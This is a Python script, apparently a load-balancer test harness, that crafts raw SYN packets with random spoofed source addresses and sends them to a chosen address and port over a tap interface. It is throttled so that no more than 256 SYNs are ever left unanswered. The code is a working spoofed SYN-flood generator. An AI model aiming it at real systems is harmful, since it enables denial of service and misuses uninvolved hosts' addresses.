#!/usr/bin/env python3
"""So many SYNs from random sources, as fast as they are answered, and no more:

  synflood.py IFACE DMAC ADDR PORT COUNT

Never more than WINDOW without an answer: the queue of a tap has 1,000 places, and what the kernel throws away there would
hit honest clients on the same cable, whatever the balancer does. Fails when no answer comes for STALL_S seconds.

Prints {"sent"}."""
import json
import os
import random
import socket
import struct
import sys
import time

WINDOW = 256
BATCH = 32
STALL_S = 20

iface, dmac, addr, port, count = sys.argv[1:]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((iface, 0))
smac = open(f"/sys/class/net/{iface}/address").read().strip()
mac = lambda text: bytes(int(part, 16) for part in text.split(":"))
daddr = socket.inet_aton(addr)
rng = random.Random(1)
counters = [os.open(f"/sys/class/net/{iface}/statistics/{name}_packets", os.O_RDONLY) for name in ("tx", "rx")]


def unanswered():
    """Packets sent less packets received: other traffic of the interface has about as many of both."""
    tx, rx = (int(os.pread(fd, 32, 0)) for fd in counters)
    return tx - rx


def fold(total):
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def words(data):
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


options = bytes([2, 4, 5, 180, 4, 2, 1, 1])
ethernet = mac(dmac) + mac(smac) + b"\x08\x00"
front = struct.pack("!BBHHHBB", 0x45, 0, 48, 0, 0x4000, 64, 6)
tail = struct.pack("!BBH", 7 << 4, 2, 1024)
ip_sum = words(front) + words(daddr)
tcp_sum = words(daddr) + 6 + 28 + int(port) + words(tail) + words(options)
header = struct.Struct("!14s10sHI4sHHIIBBHHH8s")
before = unanswered()
sent = 0
for i in range(int(count)):
    if i % BATCH == 0:
        until = time.monotonic() + STALL_S
        while unanswered() - before > WINDOW:
            if time.monotonic() > until:
                sys.exit(f"{WINDOW} of {sent} SYNs have no answer")
            time.sleep(0.0002)
    # 16.0.0.0 to 95.255.255.255: addresses of hosts.
    saddr = rng.randrange(0x10000000, 0x60000000)
    bits = rng.getrandbits(48)
    sport, seq = 1024 + (bits & 0x7FFF), bits >> 16
    own = (saddr >> 16) + (saddr & 0xFFFF)
    check = fold(tcp_sum + own + sport + (seq >> 16) + (seq & 0xFFFF))
    frame = header.pack(
        ethernet, front, fold(ip_sum + own), saddr, daddr, sport, int(port), seq, 0, 7 << 4, 2, 1024, check, 0, options
    )
    out.send(frame)
    sent += 1
print(json.dumps({"sent": sent}))
